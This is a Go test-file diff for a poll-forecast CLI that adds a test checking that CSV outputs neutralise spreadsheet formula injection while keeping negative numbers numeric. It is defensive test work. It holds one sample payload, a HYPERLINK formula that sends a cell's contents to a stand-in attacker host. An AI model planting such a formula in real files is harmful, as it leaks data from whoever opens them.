@@ -2,8 +2,11 @@ package main
 
 import (
 	"bytes"
+	"encoding/csv"
 	"os"
 	"path/filepath"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -140,6 +143,70 @@ func TestReportForceRefuses(t *testing.T) {
 		}
 		if _, err := os.Stat(c.keep); err != nil {
 			t.Errorf("%v: %v", c.args, err)
+		}
+	}
+}
+
+// TestCSVFormulaInjection names a pollster of a --data directory with a
+// spreadsheet formula, as a community file could: no CSV the commands write
+// may hold it as a formula, and negative numbers stay numbers.
+func TestCSVFormulaInjection(t *testing.T) {
+	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"OW")`
+	data := filepath.Join(t.TempDir(), "data")
+	if err := os.CopyFS(data, os.DirFS("../../data/fr2017")); err != nil {
+		t.Fatal(err)
+	}
+	forecasts := filepath.Join(data, "forecasts.csv")
+	b, err := os.ReadFile(forecasts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	name := slices.Index(recs[0], "source_name")
+	for _, rec := range recs[1:] {
+		if rec[name] == "Ifop-Fiducial" {
+			rec[name] = evil
+		}
+	}
+	var buf bytes.Buffer
+	w := csv.NewWriter(&buf)
+	w.WriteAll(recs)
+	if err := os.WriteFile(forecasts, buf.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		args           []string
+		name, negative bool // whether the CSV holds the name, negative numbers
+	}{
+		{[]string{"score", "--format", "csv"}, true, true},
+		{[]string{"score", "--format", "csv", "--at", "all"}, true, true},
+		{[]string{"score", "--format", "csv", "--detail"}, false, true},
+		{[]string{"chart", "errors", "--format", "csv", "--out", "-"}, true, true},
+		{[]string{"chart", "final", "--format", "csv", "--out", "-"}, true, false},
+		{[]string{"diagnose", "polls", "--format", "csv", "--table", "house_effects"}, false, true},
+	} {
+		args := c.args
+		code, out, errs := run(t, append(args, "--data", data)...)
+		if code != 0 {
+			t.Fatalf("%v: exit %d: %s", args, code, errs)
+		}
+		found, negative := false, false
+		for _, r := range readCSV(t, out) {
+			for _, c := range r {
+				found = found || c == "'"+evil
+				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+					if _, err := strconv.ParseFloat(c, 64); err != nil {
+						t.Errorf("%v: cell %q would be a formula in a spreadsheet", args, c)
+					}
+					negative = true
+				}
+			}
+		}
+		if found != c.name || negative != c.negative {
+			t.Errorf("%v: the name as text: %v, want %v; negative numbers kept: %v, want %v", args, found, c.name, negative, c.negative)
 		}
 	}
 }
